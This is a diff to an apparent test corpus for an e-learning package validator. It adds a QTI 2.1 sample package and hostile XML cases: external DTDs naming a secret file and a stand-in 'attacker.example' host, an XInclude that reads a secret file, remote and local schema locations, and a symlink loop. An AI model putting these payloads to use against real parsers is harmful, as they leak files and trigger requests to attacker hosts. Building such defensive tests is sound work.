@@ -41,6 +41,9 @@ LAR = "associatedcontent/imscc_xmlv1p1/learning-application-resource"
 CC_ASSESSMENT = "imsqti_xmlv1p2/imscc_xmlv1p1/assessment"
 QUIZ_IDENT = "quiz_demo"
 MANIFEST = "imsmanifest.xml"
+XINCLUDE = "http://www.w3.org/2001/XInclude"
+XSI = "http://www.w3.org/2001/XMLSchema-instance"
+QTI21 = "http://www.imsglobal.org/xsd/imsqti_v2p1"
 
 
 def xml_bytes(root: etree._Element) -> bytes:
@@ -200,6 +203,35 @@ def canvas_qti_entries() -> Entries:
         f"{QUIZ_IDENT}/{QUIZ_IDENT}.xml": canvas_qti_document(),
         f"{QUIZ_IDENT}/assessment_meta.xml": assessment_meta(),
     }
+
+
+# ------------------------------------------------------------------ QTI 2.1 (a format validate does not check)
+def qti21_item(identifier: str) -> bytes:
+    """A QTI 2.1 choice item as the QTI 2.1 specification lays it out."""
+    q = ElementMaker(namespace=QTI21, nsmap={None: QTI21})
+    return xml_bytes(q.assessmentItem(
+        q.responseDeclaration(q.correctResponse(q.value("B")), identifier="RESPONSE", cardinality="single",
+                              baseType="identifier"),
+        q.outcomeDeclaration(identifier="SCORE", cardinality="single", baseType="float"),
+        q.itemBody(q.choiceInteraction(q.prompt("Who patches the guest OS on EC2?"),
+                                       q.simpleChoice("AWS", identifier="A"),
+                                       q.simpleChoice("The customer", identifier="B"),
+                                       responseIdentifier="RESPONSE", shuffle="false", maxChoices="1")),
+        q.responseProcessing(template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"),
+        identifier=identifier, title=f"Question {identifier}", adaptive="false", timeDependent="false"))
+
+
+def qti21_entries() -> Entries:
+    """A QTI 2.1 content package of three items: Canvas reads it as it is; validate checks only QTI 1.2."""
+    m = ElementMaker(namespace=CP, nsmap={None: CP})
+    idents = ["item_1", "item_2", "item_3"]
+    manifest = xml_bytes(m.manifest(
+        m.metadata(m.schema("QTIv2.1 Package"), m.schemaversion("1.0.0")),
+        m.organizations(),
+        m.resources(*(m.resource(m.file(href=f"items/{i}.xml"), identifier=f"res_{i}", type="imsqti_item_xmlv2p1",
+                                 href=f"items/{i}.xml") for i in idents)),
+        identifier="qti21_manifest"))
+    return {MANIFEST: manifest, **{f"items/{i}.xml": qti21_item(i) for i in idents}}
 
 
 # ------------------------------------------------------------------ Common Cartridge 1.1
@@ -475,6 +507,28 @@ def _xxe_manifest(secret: Path) -> Callable[[], Entries]:
     return build
 
 
+def _external_doctype(system_url: str, body: bytes) -> bytes:
+    """``body`` with a DOCTYPE naming an external DTD (written as raw text on purpose)."""
+    head, _, rest = body.partition(b"?>\n")
+    root_name = etree.fromstring(body).tag.rpartition("}")[2]
+    return head + b"?>\n" + f'<!DOCTYPE {root_name} SYSTEM "{system_url}">\n'.encode() + rest
+
+
+def _xinclude(href: str) -> Callable[[etree._Element], None]:
+    def change(root: etree._Element) -> None:
+        include = etree.SubElement(find(root, "metadata"), f"{{{XINCLUDE}}}include", nsmap={"xi": XINCLUDE})
+        include.set("href", href)
+        include.set("parse", "text")
+    return change
+
+
+def _schema_location(location: str) -> Callable[[etree._Element], None]:
+    def change(root: etree._Element) -> None:
+        namespace = etree.QName(root).namespace
+        root.set(f"{{{XSI}}}schemaLocation", f"{namespace} {location}")
+    return change
+
+
 def _billion_laughs() -> bytes:
     levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
     document = _doctype("\n".join(levels), moodle_xml())
@@ -612,14 +666,19 @@ def _moodle_idnumber(question_index: int, idnumber: str) -> Callable[[etree._Ele
     return change
 
 
+def write_folder(root: Path, entries: Entries) -> Path:
+    """``entries`` written out as an unpacked package folder."""
+    for member, data in entries.items():
+        (root / member).parent.mkdir(parents=True, exist_ok=True)
+        (root / member).write_bytes(data)
+    return root
+
+
 def _folder_case(name: str, build: Callable[[], Entries], link: tuple[str, Path] | None = None
                  ) -> Callable[[Path], Path]:
     """An unpacked package folder, with an optional symbolic link (member name, target)."""
     def make(folder: Path) -> Path:
-        root = folder / name
-        for member, data in build().items():
-            (root / member).parent.mkdir(parents=True, exist_ok=True)
-            (root / member).write_bytes(data)
+        root = write_folder(folder / name, build())
         if link is not None:
             (root / link[0]).symlink_to(link[1])
         return root
@@ -689,10 +748,23 @@ def corpus(secret: Path) -> list[Case]:
              member="assets/my notes.txt"),
         Case("folder-symlink-out", "folder.symlink", _folder_case("unpacked", s12, ("assets/leak.txt", secret)),
              member="assets/leak.txt"),
+        Case("folder-symlink-loop", "folder.symlink", _folder_case("looping", s12, ("assets/loop", Path("loop"))),
+             member="assets/loop"),
         Case("not-a-zip", "zip.not-a-zip", _raw_case("not-a-zip.zip", lambda: b"%PDF-1.7 this is not a zip\n")),
         # ---- XML safety
         Case("xxe", "xml.xxe", _zip_case("xxe.zip", _xxe_manifest(secret)), member=MANIFEST),
         Case("billion-laughs", "xml.entity-expansion", _raw_case("laughs-moodle.xml", _billion_laughs)),
+        Case("external-dtd", "xml.external-dtd", _zip_case("external-dtd.zip", _with(
+            s12, imsmanifest_DOT_xml=_external_doctype(secret.as_uri(), scorm12_manifest()))), member=MANIFEST),
+        Case("external-dtd-network", "xml.external-dtd", _raw_case("remote-dtd-moodle.xml", lambda: _external_doctype(
+            "http://attacker.example/evil.dtd", moodle_xml()))),
+        Case("xinclude", "xml.xinclude", _zip_case("xinclude.zip", _edit_member(
+            s12, MANIFEST, _xinclude(secret.as_uri()))), member=MANIFEST),
+        Case("schema-location-on-disk", "xml.schema-location", _zip_case("schema-file.zip", _edit_member(
+            s12, MANIFEST, _schema_location(secret.as_uri()))), member=MANIFEST),
+        Case("schema-location-elsewhere", "xml.schema-remote", _zip_case("schema-remote.zip", _edit_member(
+            canvas, quiz_file, _schema_location("https://schemas.attacker.example/qti.xsd"))), member=quiz_file,
+             exit_code=0),
         Case("malformed-xml", "xml.malformed",
              _zip_case("malformed.zip", _with(s12, imsmanifest_DOT_xml=scorm12_manifest().replace(b"</resources>", b""))),
              member=MANIFEST),
@@ -731,6 +803,7 @@ def corpus(secret: Path) -> list[Case]:
              member=MANIFEST),
         Case("manifest-root", "manifest.root",
              _zip_case("manifest-root.zip", _edit_member(s12, MANIFEST, _rename_root("package"))), member=MANIFEST),
+        Case("qti21-package", "manifest.unknown-kind", _zip_case("qti21.zip", qti21_entries), member=MANIFEST),
         Case("plain-content-package", "manifest.unknown-kind", _zip_case("plain-cp.zip", _unknown_manifest),
              member=MANIFEST),
         # ---- SCORM
